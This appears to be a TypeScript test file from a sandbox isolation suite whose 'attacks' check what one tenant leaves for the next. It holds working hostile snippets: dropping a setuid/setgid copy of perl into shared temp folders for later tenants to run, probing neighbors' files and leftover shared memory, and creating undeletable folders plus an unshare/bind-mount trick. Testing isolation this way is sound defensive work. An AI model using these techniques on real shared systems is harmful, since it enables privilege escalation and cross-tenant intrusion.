import { randomInt } from "node:crypto";
import { readFileSync } from "node:fs";
import { type Attack, program } from "../support/attack";

const reuse = "A7 · what the next one finds";

const drop = `
for (const folder of ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", process.env.TMPDIR]) attempt("", () => { const path = folder + "/" + token; fs.copyFileSync("/usr/bin/perl", path); fs.chmodSync(path, 0o6755); say("left " + path); });`;

const find = `
for (const folder of ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", process.env.TMPDIR]) for (const name of attempt("", () => fs.readdirSync(folder)) ?? []) {
  if (!name.startsWith("hostile-")) continue;
  const path = folder + "/" + name;
  reach("a file of an earlier environment: " + path);
  if (attempt("", () => fs.statSync(path).uid) === process.getuid()) reach("a set-id file of its own user id");
  say(cp.spawnSync(path, [join(here, "kit.pl"), "ids"], { encoding: "utf8" }).stdout);
}`;

/** Attacks on environments that come later: files, users and shared memory that outlive an environment. */
export const remainsAttacks: Attack[] = [
  program({ id: "set-id-left-behind", of: reuse, aim: "set-id files in the folders everybody shares" }, drop),
  {
    id: "set-id-found",
    of: reuse,
    aim: "becoming the next tenant by a set-id file left for it",
    async run(arena) {
      const first = await arena.deploy({ body: drop }, "first");
      await arena.untilDone(first);
      await arena.destroy();
      for (const name of ["second", "third"]) await arena.untilDone(await arena.deploy({ body: find }, name));
    },
  },
  {
    id: "neighbors-temporary-files",
    of: reuse,
    aim: "temporary files of a neighbor that runs now",
    async run(arena) {
      const body = `for (const folder of ["/tmp", "/var/tmp", "/dev/shm"]) attempt("", () => fs.writeFileSync(folder + "/" + token, "x", { mode: 0o666 }));`;
      await arena.untilDone(await arena.deploy({ body }, "one"));
      const other = `for (const folder of ["/tmp", "/var/tmp", "/dev/shm"]) if (fs.existsSync(folder + "/" + token)) reach("a neighbor's file in " + folder);`;
      await arena.untilDone(await arena.deploy({ body: other }, "two"));
    },
  },
  {
    id: "user-id-again",
    of: reuse,
    aim: "the user id of an environment that is gone",
    rootOnly: true,
    async run(arena) {
      const seen: number[] = [];
      for (const name of ["one", "two", "three", "four"]) {
        await arena.deploy({}, name);
        const { uid } = arena;
        if (uid !== null) seen.push(uid);
        await arena.destroy();
      }
      arena.note(`user ids ${seen.join(" ")}`);
      if (new Set(seen).size < seen.length) arena.reach(`a user id was given twice: ${seen.join(" ")}`);
    },
  },
  {
    id: "shared-memory-left-behind",
    of: reuse,
    aim: "shared memory, semaphores and queues that stay when it is gone",
    async run(arena) {
      const key = randomInt(2 ** 30);
      const body = `perl("leaveSharedMemory", ${key}); fs.writeFileSync("/dev/shm/" + token, Buffer.alloc(1 << 20));`;
      await arena.untilDone(await arena.deploy({ body }));
      await arena.destroy();
      for (const kind of ["shm", "sem", "msg"]) {
        const table = readFileSync(`/proc/sysvipc/${kind}`, "utf8");
        if (table.split("\n").some((line) => line.trim().startsWith(`${key} `)))
          arena.reach(`${kind} of it is still there`);
      }
      arena.field.canaries.perl("removeLeft", String(key));
    },
  },
  program(
    { id: "folders-without-rights", of: reuse, aim: "a folder that cannot be removed" },
    `for (const root of [process.cwd(), process.env.DATA]) { fs.mkdirSync(root + "/closed/inner/deep", { recursive: true }); fs.writeFileSync(root + "/closed/inner/file", "x"); fs.chmodSync(root + "/closed/inner/deep", 0); fs.chmodSync(root + "/closed/inner", 0); fs.chmodSync(root + "/closed", 0o500); fs.chmodSync(root, 0o500); }
     cp.spawn("unshare", ["-Urm", "sh", "-c", "mkdir -p m; mount -t tmpfs none m; mount --bind / m; sleep 60"], { detached: true, stdio: "ignore", env: {} }).on("error", () => {}).unref(); await sleep(300);`,
    { spec: { volumes: ["data:/data"], environment: { DATA: "{data}" } } },
  ),
];
